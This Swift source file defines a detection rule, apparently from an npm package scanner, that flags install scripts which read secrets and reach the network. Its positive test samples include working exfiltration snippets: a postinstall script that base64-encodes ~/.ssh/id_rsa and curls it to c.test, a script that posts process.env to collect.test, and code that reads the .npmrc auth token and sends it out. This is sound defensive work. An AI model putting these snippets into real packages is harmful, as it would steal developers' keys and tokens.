// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// What runs at install reads keys, or the whole environment, and reaches the network.
package struct InstallSendsSecrets: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-sends-secrets", kind: .content, title: "Install reads secrets and reaches the network", severity: .critical,
        confidence: .medium, status: .stable, revision: 3, group: "behaviour",
        rationale:
            "Read, encode, send: crossenv sent the environment, eslint-scope the npm token, nx keys and wallets. An installer has no business with any of them.",
        knownFalseAlarms: ["An installer that honours the proxy or token of .npmrc for its own download."],
        references: ["https://blog.npmjs.org/post/163723642530/crossenv-malware-on-the-npm-registry"],
        fires: [
            RuleSample(
                "a key, by a shell script",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh s.sh"}}"#,
                    "s.sh": "K=$(cat ~/.ssh/id_rsa | base64)\ncurl -s -X POST -d \"$K\" https://c.test/\n",
                ])),
            RuleSample(
                "the whole environment",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
                    "setup.js":
                        "const http = require('http'); const data = Buffer.from(JSON.stringify(process.env)).toString('base64'); http.request({host:'collect.test', method:'POST'}).end(data);",
                ])),
            RuleSample(
                "tokens, split over two files",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node a.js"}}"#,
                    "a.js": "const t = require('./b').read(); require('https').request({host:'c.test'}).end(t);",
                    "b.js":
                        "exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.*)/)[1];",
                ])),
        ],
        staysSilent: [
            RuleSample(
                "downloads its binary",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                    "i.js": "const p = process.env.HTTPS_PROXY; require('https').get('https://a.example/bin');",
                ])),
            RuleSample(
                "asks its own forge, with the forge's token",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                    "i.js":
                        "const headers = process.env.GITHUB_TOKEN ? {authorization: 'token ' + process.env.GITHUB_TOKEN} : {}; require('https').get('https://api.github.com/repos/a/b/releases', {headers});",
                ])),
            RuleSample(
                "only a comment names them",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                    "i.js": "// NPM_TOKEN and id_rsa are left alone.\nrequire('https').get('https://a.example/bin');",
                ])),
            RuleSample(
                "an npm tool, not at install",
                .sample(["package.json": #"{"name":"a","version":"1.0.0"}"#, "i.js": "require('https'); read('.npmrc')._authToken"])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let found = [byShell(facts), byCode(facts)].compactMap { $0 }
        return found.max { $0.bits < $1.bits }.map { [$0] } ?? []
    }

    /// A command sends what it, or one before it, read.
    private func byShell(_ facts: ReleaseFacts) -> Finding? {
        let sent = facts.shellActs([.sends, .sendsByName], most: 64).filter { !$0.act.sources.isDisjoint(with: .secrets) }
        guard let first = sent.first else { return nil }
        let sources = sent.reduce(into: ShellSources()) { $0.formUnion($1.act.sources) }.intersection(.secrets)
        let isTokensOnly = sources == .tokens
        let reads = facts.shellActs([.reads])
        return card.finding(
            "Install sends \(PlainWords.list(sources.words))\(first.act.subject.isEmpty ? "" : " to \(Excerpt.clean(first.act.subject))")",
            strength: isTokensOnly ? 0.75 : 1, evidence: (sent + reads).map { facts.evidence($0.act, in: $0.shell) },
            meaning: "Whoever installed it should take those secrets for known to others.")
    }

    private static let kinds: [(sign: Sign, words: String, weight: Double)] = [
        (.wholeEnvironment, "the whole environment", 0.7), (.npmCredential, "npm credentials", 0.6), (.npmConfiguration, ".npmrc", 0.4),
        (.developerCredential, "developer keys", 0.6), (.wallet, "wallets", 0.3),
    ]

    /// Signs of secrets and of the network in files near the command.
    private func byCode(_ facts: ReleaseFacts) -> Finding? {
        guard !facts.installSigns.isDisjoint(with: .network) else { return nil }
        let near = facts.installTime.filter { $0.value.depth <= ReleaseFacts.nearSteps }.keys.sorted()
            .filter { InstallTrace.dialect(facts.files[$0], program: "") == nil }
        let files = near.map { facts.files[$0] }
        let found = Self.kinds.filter { kind in
            near.contains { facts.files[$0].scan?.allSigns.contains(kind.sign) == true && isReal(kind.sign, in: $0, facts) }
                || facts.commandScans.contains { $0.allSigns.contains(kind.sign) }
        }
        // `.npmrc` holds settings too, and words of wallets stand in certificate tools: by themselves they count only where
        // the same file reaches the network.
        let isTelling = found.contains { kind in
            switch kind.sign {
            case .wallet: false
            case .npmConfiguration:
                files.contains { file in Sign.reachingNetwork.contains { file.scan?.chain([.npmConfiguration, $0]) == true } }
            default: true
            }
        }
        guard isTelling else { return nil }
        let signs = facts.installSigns
        // Words in one file are less than a way from one to the other: `sends-secrets` follows that.
        let strength = 0.65 * (found.reduce(0) { $0 + $1.weight } + (signs.contains(.decodes) || signs.contains(.encodes) ? 0.2 : 0))
        return card.finding(
            "Install reads \(PlainWords.list(found.map(\.words))) and reaches the network", strength: strength,
            evidence: facts.installEvidence(found.map(\.sign) + Sign.reachingNetwork + [.encodes]),
            meaning: "Whoever installed it should take those secrets for known to others.")
    }

    /// Whether a sign is more than a word in a comment, and more than a forge's token in an installer that asks that forge.
    private func isReal(_ sign: Sign, in position: Int, _ facts: ReleaseFacts) -> Bool {
        let file = facts.files[position]
        guard facts.uncommented(sign, in: file) != nil else { return false }
        guard sign == .developerCredential, let scan = file.scan, !scan.hasMoreHosts, !scan.hiddenSigns.contains(sign) else { return true }
        let hosts = scan.hosts.union(facts.hosts(in: position))
        guard hosts.allSatisfy({ PlainHosts.releases.contains($0) || facts.isOwn($0) }) else { return true }
        return !(scan.places[sign] ?? []).allSatisfy { place in
            let word = String(decoding: file.file.bytes.dropFirst(place.lowerBound).prefix(place.count), as: UTF8.self)
            return ["GITHUB_TOKEN", "GH_TOKEN"].contains(word)
        }
    }
}

extension Sign {
    static let reachingNetwork: [Sign] = [.networkModule, .networkCall, .shellDownload]
}
